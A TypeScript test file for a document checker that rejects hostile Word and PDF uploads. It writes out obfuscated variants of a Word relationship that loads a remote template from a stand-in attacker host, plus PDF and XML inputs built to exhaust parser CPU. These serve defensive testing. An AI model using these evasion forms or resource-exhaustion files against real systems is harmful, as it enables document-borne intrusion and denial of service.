import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startCpuTime } from '#testing/cpu-time.ts'
import { wordWith } from '#testing/documents/hostile-documents.ts'
import { judgeDocument } from './document-type.ts'

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'vouch-hiding-'))
})
afterAll(() => rm(folder, { recursive: true, force: true }))

/** The kind, or the sentence of the refusal. */
async function judge(content: Buffer): Promise<string> {
  const path = join(folder, 'file')
  await writeFile(path, content)
  return judgeDocument({ path, bytes: content.length }, ['pdf', 'docx']).catch(
    (error: Error) => error.message,
  )
}

const relations = (content: string) => wordWith('word/_rels/settings.xml.rels', content)

describe('a template from elsewhere', () => {
  const type = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
  const target = 'Target="http://evil.example/t.dotm"'
  const mode = 'TargetMode="External"'
  test.each([
    ['behind a sign that looks like the end', `<Relationship Id=">" ${type} ${target} ${mode}/>`],
    ['with a written character in its mode', `<Relationship ${type} ${target} TargetMode="Ext&#101;rnal"/>`],
    [
      'with zeros before a written character',
      `<Relationship ${type} Target="&#x0000000068;ttp://evil.example" ${mode}/>`,
    ],
    ['under a longer prefix', `<a-b:Relationship ${type} ${target} ${mode}></a-b:Relationship>`],
    ['beside another type', `<Relationship x:Type="a/hyperlink" ${type} ${target} ${mode}/>`],
    ['beside another target', `<Relationship x:Target="file:///C:/t.dotx" ${type} ${target} ${mode}/>`],
    ['in single marks', `<Relationship\n${type}\t${target} TargetMode = 'External' />`],
  ])('%s is found', async (_, tag) => {
    const content = `<Relationships>${tag}</Relationships>`
    expect(await judge(relations(content))).toMatch(/^This Word document loads something/)
  })
})

describe('nobody is kept busy', () => {
  // Each took minutes when every one of them was looked at from its place to the end.
  const mib = 2 ** 20
  const filled = (filler: string, bytes: number) => Buffer.alloc(bytes, filler).toString('latin1')
  const pdf = (...parts: (string | Buffer)[]) =>
    Buffer.concat(['%PDF-1.7\nstartxref\n', ...parts].map((part) => Buffer.from(part as string)))
  const packed = (content: Buffer) =>
    pdf('1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n', deflateSync(content), '\nendstream')

  test.each([
    ['relations that stay open', relations(filled('<Relationship ', mib))],
    ['relations with open marks', relations(`<Relationship ${filled('"', mib - 20)}`)],
    ['a relation of words', relations(`<Relationship ${filled('a ', mib - 20)}>`)],
    ['a relation of one word', relations(`<Relationship ${filled('a', mib - 20)}>`)],
    [
      'object streams without an end',
      pdf('1 0 obj<</Type/ObjStm>>stream\n'.repeat(19_000), Buffer.alloc(9 * mib, 'a ')),
    ],
    ['written characters before streams', pdf(`stream\n${'#41'.repeat(160)}`.repeat(19_000))],
    ['written characters in an object stream', packed(Buffer.alloc(60 * mib, '#41'))],
  ])(
    'by %s',
    async (_, content) => {
      const cpuTime = startCpuTime()
      await judge(content)
      expect(cpuTime()).toBeLessThan(5_000)
    },
    120_000,
  )

  test('object streams that lie in one another cost what is read for each of them', async () => {
    const head = Buffer.from(
      '1 0 obj<</Type/ObjStm/N 0/First 0/Filter/FlateDecode>>stream\n\x78\x9c',
      'latin1',
    )
    const size = head.length
    // A block that is not packed holds the beginning of the next stream; then come 8 MB of blocks of nothing.
    const block = Buffer.concat([Buffer.from([0, size, 0, ~size & 0xff, 0xff]), head])
    const nothing = Buffer.alloc(8_000_000, Buffer.from([0, 0, 0, 0xff, 0xff]))
    const nested = (count: number) => pdf(head, ...Array<Buffer>(count - 1).fill(block), nothing)
    expect(await judge(nested(4))).toBe('pdf')
    expect(await judge(nested(12))).toMatch(/cannot be checked/)
  })
})
